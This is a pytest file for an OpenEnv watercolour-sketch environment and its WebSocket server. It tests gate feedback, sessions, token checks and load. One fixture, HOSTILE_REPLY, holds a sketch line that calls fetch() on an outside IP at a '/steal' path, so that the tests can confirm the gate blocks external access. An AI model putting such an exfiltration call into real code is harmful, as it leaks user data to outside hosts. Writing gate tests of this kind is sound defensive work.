"""Tests for the OpenEnv part: wire models, feedback text, the environment and the server.

Rendering goes through the session-wide ``evaluator`` fixture (tests/conftest.py) and the
two-circle SMALL_SKETCH, which renders in about a second; hostile replies are stopped by
the static gate and render nothing. The server tests run uvicorn in-process on 127.0.0.1
and talk to it through the real ``WatercolourEnv`` WebSocket client.
"""

from __future__ import annotations

import asyncio
import base64
import json
import subprocess
import sys
import time

import httpx
import pytest
from pydantic import ValidationError

from env.contract import REASON_CODES, SketchContract
from env.core import SketchOutcome
from env.client import WatercolourEnv, infrastructure_failed, png_bytes
from env.environment import SharedEvaluator, WatercolourEnvironment
from env.errors import UsageError
from env.feedback import MAX_DETAIL_LINES, MAX_FEEDBACK_CHARS, MAX_LINE_CHARS, feedback_text
from env.models import MAX_RESPONSE_CHARS, WatercolourAction, WatercolourObservation
from env.server import create_app

from helpers import ROOT, SMALL_SKETCH, running_server

SMALL_REPLY = "Two poppies.\n```js\n" + SMALL_SKETCH + "```\n"
HOSTILE_REPLY = (
    "```js\n"
    "async function setup() { createCanvas(600, 600, WEBGL); noLoop(); }\n"
    "function draw() {\n"
    "  fetch('http://203.0.113.9/steal?c=' + width);\n"
    "  brush.circle(300, 300, 80);\n"
    "}\n"
    "```\n"
)
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
# Words that would turn gate feedback into a judgement of the painting.
JUDGING_WORDS = ("score", "reward", "reference", "beautiful", "ugly", "good job", "well done")


def outcome(**overrides) -> SketchOutcome:
    fields = dict(
        code="function setup() {}", passed=False, violations=[], errors=[], paint_fraction=0.0,
        render_ms=0, png=None, infrastructure_error=None, details=[], stats={}, rendered=False,
    )
    fields.update(overrides)
    return SketchOutcome(**fields)


# --- feedback text ------------------------------------------------------------------------


def test_feedback_for_a_passing_turn_states_coverage_and_the_next_step():
    text = feedback_text(outcome(passed=True, paint_fraction=0.1234, png=b"png", rendered=True), 1, 3)
    assert text.startswith("Turn 1 of 3: your sketch passed the gate.")
    assert "Paint covers 12% of the canvas; the gate needs at least 0.5%." in text
    assert "```js" in text and "(2 turns left)" in text
    assert not any(word in text.lower() for word in JUDGING_WORDS)


def test_feedback_explains_each_reason_code_and_caps_the_details():
    details = [f"line {n}: `fetch()` reaches outside the sketch" for n in range(1, 12)]
    text = feedback_text(outcome(violations=["external_access", "timer"], details=details), 2, 3)
    assert "did not pass the gate" in text
    assert f"- external_access: {REASON_CODES['external_access']}" in text
    assert f"- timer: {REASON_CODES['timer']}" in text
    assert sum("reaches outside the sketch" in line for line in text.splitlines()) == MAX_DETAIL_LINES
    assert f"({len(details) - MAX_DETAIL_LINES} more)" in text
    assert "was not rendered" in text
    assert "(1 turn left)" in text


def test_feedback_truncates_javascript_errors_and_reports_low_coverage():
    long_error = "TypeError: " + "x" * 2000
    text = feedback_text(
        outcome(violations=["render_error", "blank_canvas"], errors=[long_error], paint_fraction=0.003,
                png=b"png", rendered=True),
        1, 4,
    )
    error_lines = [line for line in text.splitlines() if line.startswith("- TypeError")]
    assert len(error_lines) == 1 and len(error_lines[0]) <= MAX_LINE_CHARS
    assert "Paint covers 0.3% of the canvas; the gate needs at least 0.5%." in text


def test_feedback_stays_short_however_many_problems_there_are():
    violations = list(REASON_CODES)
    text = feedback_text(
        outcome(violations=violations, details=["d" * 500] * 50, errors=["e" * 500] * 50), 1, 2,
    )
    assert len(text) <= MAX_FEEDBACK_CHARS
    # Codes that no longer fit with their explanation are still named.
    assert all(code in text for code in violations)
    assert text.endswith("(1 turn left)")


def test_feedback_on_the_last_turn_and_with_a_custom_threshold():
    contract = SketchContract(min_paint_fraction=0.02)
    text = feedback_text(outcome(passed=True, paint_fraction=0.05, png=b"png", rendered=True), 4, 4, contract)
    assert "the gate needs at least 2.0%" in text
    assert text.endswith("That was the last turn.")


def test_feedback_for_an_infrastructure_failure_does_not_blame_the_sketch():
    text = feedback_text(outcome(violations=["infrastructure_error"], infrastructure_error="browser_start_failed: x"), 1, 2)
    assert "not judged" in text and "did not pass" not in text
    assert "browser_start_failed" not in text


# --- wire models ----------------------------------------------------------------------------


def test_action_is_size_limited_and_rejects_unknown_fields():
    with pytest.raises(ValidationError):
        WatercolourAction(response="x" * (MAX_RESPONSE_CHARS + 1))
    with pytest.raises(ValidationError):
        WatercolourAction.model_validate({"response": "x", "code": "y"})


def test_observation_fields_are_the_wire_contract():
    declared = set(WatercolourObservation.model_fields) - {"done", "reward", "metadata"}
    assert declared == {
        "image_png_base64", "passed", "violations", "errors", "paint_fraction",
        "render_ms", "turn", "turns_left", "feedback", "code", "show_code",
    }


# --- environment in-process -----------------------------------------------------------------


def test_reset_validates_its_arguments_and_step_needs_an_episode():
    environment = WatercolourEnvironment(evaluator=SharedEvaluator())
    for bad in ({"turns": 0}, {"turns": 17}, {"subject": "   "}, {"seed": -1}, {"colour": "red"}):
        with pytest.raises(ValueError, match="invalid reset arguments"):
            environment.reset(**bad)
    with pytest.raises(RuntimeError, match="call reset"):
        environment.step(WatercolourAction(response=SMALL_REPLY))


def test_episode_in_process_renders_counts_turns_and_ends(evaluator):
    environment = WatercolourEnvironment(evaluator=evaluator)
    first = environment.reset(subject="two  poppies\n in a field", seed=11, turns=2)
    assert first.turn == 0 and first.turns_left == 2 and not first.done
    assert first.image_png_base64 is None and first.reward is None
    assert "Paint two poppies in a field as a p5.brush watercolour" in first.feedback
    assert "brush.circle" in first.feedback

    turn_one = environment.step(WatercolourAction(response=SMALL_REPLY))
    assert turn_one.passed, turn_one.feedback
    assert turn_one.violations == [] and turn_one.errors == []
    assert png_bytes(turn_one).startswith(PNG_SIGNATURE)
    assert turn_one.paint_fraction >= evaluator.contract.min_paint_fraction
    assert (turn_one.turn, turn_one.turns_left, turn_one.done) == (1, 1, False)
    assert turn_one.reward is None and turn_one.metadata["infrastructure_failed"] is False
    assert "passed the gate" in turn_one.feedback

    # The async path is what the server uses; it must agree with the blocking one.
    turn_two = asyncio.run(environment.step_async(WatercolourAction(response=SMALL_REPLY)))
    assert (turn_two.turn, turn_two.turns_left, turn_two.done) == (2, 0, True)
    assert turn_two.image_png_base64 == turn_one.image_png_base64  # same code, same seed
    assert environment.state.done and environment.state.step_count == 2

    with pytest.raises(RuntimeError, match="episode .* is over: all 2 turns were taken"):
        environment.step(WatercolourAction(response=SMALL_REPLY))


class _RendererWithoutBrowsers:
    """Stands in for a SketchEvaluator whose browsers cannot start."""

    contract = SketchContract()

    def evaluate(self, reply, seed=0, deadline_s=None, current=None):
        return outcome(violations=["infrastructure_error"], errors=["browser_start_failed: no display"],
                       infrastructure_error="browser_start_failed: no display")

    async def evaluate_async(self, reply, seed=0, deadline_s=None, current=None):
        return self.evaluate(reply, seed, deadline_s)


class _RendererThatRaises(_RendererWithoutBrowsers):
    """Stands in for a SketchEvaluator whose event-loop thread has died."""

    def evaluate(self, reply, seed=0, deadline_s=None, current=None):
        raise RuntimeError("renderer loop is closed")


def test_infrastructure_failures_are_flagged_not_scored_as_bad_paintings():
    environment = WatercolourEnvironment(evaluator=_RendererWithoutBrowsers())
    environment.reset(subject="a lemon", seed=1, turns=2)
    reported = environment.step(WatercolourAction(response=SMALL_REPLY))
    assert not reported.passed and reported.reward is None
    assert "infrastructure_error" in reported.violations
    assert "browser_start_failed: no display" in reported.errors
    assert reported.metadata["infrastructure_failed"] is True and infrastructure_failed(reported)
    assert "not judged" in reported.feedback

    environment = WatercolourEnvironment(evaluator=_RendererThatRaises())
    environment.reset(subject="a lemon", seed=1, turns=1)
    raised = asyncio.run(environment.step_async(WatercolourAction(response=SMALL_REPLY)))
    assert raised.metadata["infrastructure_failed"] is True
    assert raised.violations == ["infrastructure_error"]
    assert any("renderer loop is closed" in error for error in raised.errors)
    assert raised.done and environment.state.infrastructure_failures == 1


# --- server over WebSocket --------------------------------------------------------------------


@pytest.fixture(scope="module")
def server_url(evaluator):
    with running_server(create_app(evaluator, max_sessions=8)) as url:
        yield url


def test_http_routes_describe_the_environment(server_url):
    with httpx.Client(base_url=server_url, timeout=10) as http:
        assert http.get("/health").json()["status"] == "healthy"
        assert http.get("/metadata").json()["name"] == "watercolour"
        schema = http.get("/schema").json()
        assert "response" in schema["action"]["properties"]
        assert {"image_png_base64", "turns_left", "feedback"} <= set(schema["observation"]["properties"])
        assert {"subject", "seed", "turns"} <= set(schema["state"]["properties"])


@pytest.mark.slow  # 5 s
def test_three_concurrent_sessions_keep_independent_episodes(server_url):
    async def episode(index: int):
        async with WatercolourEnv(base_url=server_url) as client:
            started = time.monotonic()
            result = await client.reset(subject=f"subject number {index}", seed=100 + index, turns=2)
            observations = [result.observation]
            while not result.done:
                result = await client.step(WatercolourAction(response=SMALL_REPLY))
                observations.append(result.observation)
            state = await client.state()
            return started, time.monotonic(), observations, state

    async def all_episodes():
        return await asyncio.gather(*(episode(index) for index in range(3)))

    results = asyncio.run(all_episodes())
    # The three episodes really overlapped in time.
    assert max(started for started, _, _, _ in results) < min(ended for _, ended, _, _ in results)

    images_by_seed = {}
    for index, (_, _, observations, state) in enumerate(results):
        assert [o.turn for o in observations] == [0, 1, 2]
        assert [o.turns_left for o in observations] == [2, 1, 0]
        assert observations[-1].done and all(o.passed for o in observations[1:])
        assert all(o.metadata["seed"] == 100 + index for o in observations[1:])
        assert (state.subject, state.seed, state.step_count, state.done) == (f"subject number {index}", 100 + index, 2, True)
        first, second = (png_bytes(o) for o in observations[1:])
        assert first.startswith(PNG_SIGNATURE) and first == second  # each session keeps its own seed
        images_by_seed[state.seed] = first
    assert len({state.episode_id for _, _, _, state in results}) == 3
    # SMALL_SKETCH uses random(): different seeds paint differently.
    assert len(set(images_by_seed.values())) == 3


def test_hostile_reply_over_the_wire_gets_reasons_and_no_render(server_url):
    with WatercolourEnv(base_url=server_url).sync() as client:
        client.reset(subject="a harbour", seed=3, turns=2)
        result = client.step(WatercolourAction(response=HOSTILE_REPLY))
        observation = result.observation
        assert not observation.passed and not result.done
        assert "external_access" in observation.violations
        assert observation.image_png_base64 is None and observation.turn == 1
        assert f"external_access: {REASON_CODES['external_access']}" in observation.feedback
        assert "fetch()" in observation.feedback
        assert not infrastructure_failed(observation)
        # Stepping past the end is an error with a readable message.
        client.step(HOSTILE_REPLY)
        with pytest.raises(RuntimeError, match="is over: all 2 turns were taken"):
            client.step(HOSTILE_REPLY)
        with pytest.raises(RuntimeError, match="invalid reset arguments: turns"):
            client.reset(subject="a harbour", turns=99)


def _edit(search: str, replace: str) -> str:
    return f"<<<<<<< SEARCH\n{search}\n=======\n{replace}\n>>>>>>> REPLACE"


@pytest.mark.slow  # 4 renders
def test_an_openenv_client_drives_edit_turns_and_the_session_keeps_the_sketch(server_url):
    """Edit replies over the wire: the server session holds the episode's sketch, applies each
    edit to it, keeps it through a failed edit, and every observation carries it."""
    recolour = _edit("  brush.fill('#2b6cb0', 140);", "  brush.fill('#2b8f4e', 140);")
    smuggle = _edit("  brush.circle(130, 120, 35);", "  brush.circle(130, 120, 35);\n  text('hi', 20, 20);")
    with WatercolourEnv(base_url=server_url).sync() as client:
        started = client.reset(subject="two poppies", seed=5, turns=5, revision_format="edit").observation
        assert started.code is None and "<<<<<<< SEARCH" in started.feedback
        draft = client.step(WatercolourAction(response=SMALL_REPLY)).observation
        sketch = SMALL_SKETCH.rstrip("\n")  # as the gate extracts it from the fenced block
        assert draft.passed and draft.code == sketch and not draft.show_code
        assert "SEARCH/REPLACE edit blocks" in draft.feedback
        edited = client.step(WatercolourAction(response=f"Greener.\n{recolour}")).observation
        assert edited.passed and edited.code == sketch.replace("#2b6cb0", "#2b8f4e") and edited.show_code
        assert png_bytes(edited) != png_bytes(draft)
        missed = client.step(WatercolourAction(response=recolour)).observation  # its SEARCH is gone now
        assert not missed.passed and missed.violations == ["edit_no_match"] and missed.image_png_base64 is None
        assert missed.code == edited.code and not missed.show_code  # kept, and already shown
        assert "block 1" in missed.feedback and "brush.fill('#2b6cb0', 140);" in missed.feedback
        assert not infrastructure_failed(missed)
        gated = client.step(WatercolourAction(response=smuggle)).observation
        assert not gated.passed and "text_label" in gated.violations  # the gate sees the edited sketch
        assert "text('hi', 20, 20);" in gated.code
        assert client.state().revision_format == "edit"


def test_session_limit_is_enforced(evaluator):
    with running_server(create_app(evaluator, max_sessions=1)) as url:
        with WatercolourEnv(base_url=url).sync() as first:
            first.reset(subject="a pear", seed=0, turns=1)
            with WatercolourEnv(base_url=url).sync() as second:
                with pytest.raises(RuntimeError, match="CAPACITY_REACHED"):
                    second.reset(subject="a pear", seed=0, turns=1)


def test_module_app_is_built_lazily_without_starting_browsers():
    import env.server

    app = env.server.app
    assert app is env.server.app
    shared = app.state.watercolour_evaluator
    assert isinstance(shared, SharedEvaluator) and not shared.started


def test_png_helper_rejects_data_that_is_not_a_png():
    assert png_bytes(WatercolourObservation()) is None
    with pytest.raises(ValueError, match="not hold a PNG"):
        png_bytes(WatercolourObservation(image_png_base64=base64.b64encode(b"GIF89a").decode()))


# --- security: token, size limits, binding ------------------------------------------------------


def test_token_is_checked_on_every_request_and_handshake(evaluator):
    from env.security import DEFAULT_MAX_BODY_BYTES

    with running_server(create_app(evaluator, max_sessions=4, token="s3cret")) as url:
        with httpx.Client(base_url=url, timeout=10) as http:
            assert http.get("/health").status_code == 200  # liveness probes carry no token
            assert http.get("/metadata").status_code == 401
            assert http.get("/metadata", headers={"Authorization": "Bearer wrong"}).status_code == 401
            assert http.get("/metadata", headers={"Authorization": "Bearer s3cret"}).status_code == 200
            # Too large: refused from Content-Length before the body is read, token or not.
            big = http.post("/reset", content=b"x" * (DEFAULT_MAX_BODY_BYTES + 1),
                            headers={"Authorization": "Bearer s3cret", "Content-Type": "application/json"})
            assert big.status_code == 413
        with pytest.raises(Exception):
            with WatercolourEnv(base_url=url, token="wrong").sync() as client:
                client.reset(subject="a pear", seed=0, turns=1)
        with WatercolourEnv(base_url=url, token="s3cret").sync() as client:
            client.reset(subject="a pear", seed=0, turns=1)
            assert client.step(SMALL_REPLY).observation.passed


def test_chunked_bodies_over_the_limit_are_refused(evaluator):
    with running_server(create_app(evaluator, max_sessions=2, max_body_bytes=1000)) as url:
        with httpx.Client(base_url=url, timeout=10) as http:
            chunks = iter([b"{" + b" " * 600, b" " * 600 + b"}"])  # no Content-Length: streamed
            response = http.post("/reset", content=chunks, headers={"Content-Type": "application/json"})
            assert response.status_code == 413


def test_server_reads_renderers_from_the_environment_and_its_old_name(monkeypatch):
    from env.server import app_from_environment

    monkeypatch.delenv("WATERCOLOUR_TOKEN", raising=False)
    monkeypatch.delenv("WATERCOLOUR_RENDERERS", raising=False)
    monkeypatch.setenv("WATERCOLOUR_POOL_SIZE", "2")
    shared = app_from_environment().app.state.watercolour_evaluator  # lazy: no browser starts
    assert shared._evaluator_kwargs["renderers"] == 2
    monkeypatch.setenv("WATERCOLOUR_RENDERERS", "3")
    assert app_from_environment().app.state.watercolour_evaluator._evaluator_kwargs["renderers"] == 3


def test_services_refuse_other_addresses_without_a_token(monkeypatch):
    from env.server import serve
    from rewards.hps_server import serve_hps

    monkeypatch.delenv("WATERCOLOUR_TOKEN", raising=False)
    with pytest.raises(UsageError, match="without a token"):
        serve(host="0.0.0.0", port=1)
    with pytest.raises(UsageError, match="without a token"):
        serve_hps(host="0.0.0.0", port=1)


# --- load: many sessions from several client processes --------------------------------------------


@pytest.mark.slow  # 22 s
def test_load_from_client_processes_completes_every_session_and_counts_refusals(evaluator):
    from env.bench_serve import run_load

    with running_server(create_app(evaluator, max_sessions=6)) as url:
        summary = run_load(url, sessions=6, turns=2, processes=2, reply=SMALL_REPLY)
        assert (summary["completed"], summary["refused"], summary["lost"]) == (6, 0, 0), summary["errors"]
        assert summary["steps"] == 12 and summary["passed_steps"] == 12 and summary["infrastructure_failures"] == 0
        assert 0 < summary["p50_step_s"] <= summary["p99_step_s"] and summary["renders_per_s"] > 0
    # More sessions than the server admits: the extra ones are refused, never silently lost.
    with running_server(create_app(evaluator, max_sessions=2)) as url:
        summary = run_load(url, sessions=5, turns=3, processes=1, reply=SMALL_REPLY)
        assert summary["refused"] >= 1 and summary["lost"] == 0
        assert summary["completed"] + summary["refused"] == 5


@pytest.mark.slow  # 12 s
def test_bench_serve_command_starts_its_own_server(tmp_path):
    sketch = tmp_path / "small.js"
    sketch.write_text(SMALL_REPLY)
    completed = subprocess.run(
        [sys.executable, "-m", "watercolour.cli", "bench", "serve", "--sessions", "4", "--turns", "1",
         "--processes", "2", "--renderers", "1", "--sketch", str(sketch), "--json"],
        cwd=ROOT, capture_output=True, text=True, timeout=300,
    )
    assert completed.returncode == 0, completed.stderr[-3000:]
    summary = json.loads(completed.stdout)
    assert summary["completed"] == 4 and summary["lost"] == summary["refused"] == 0
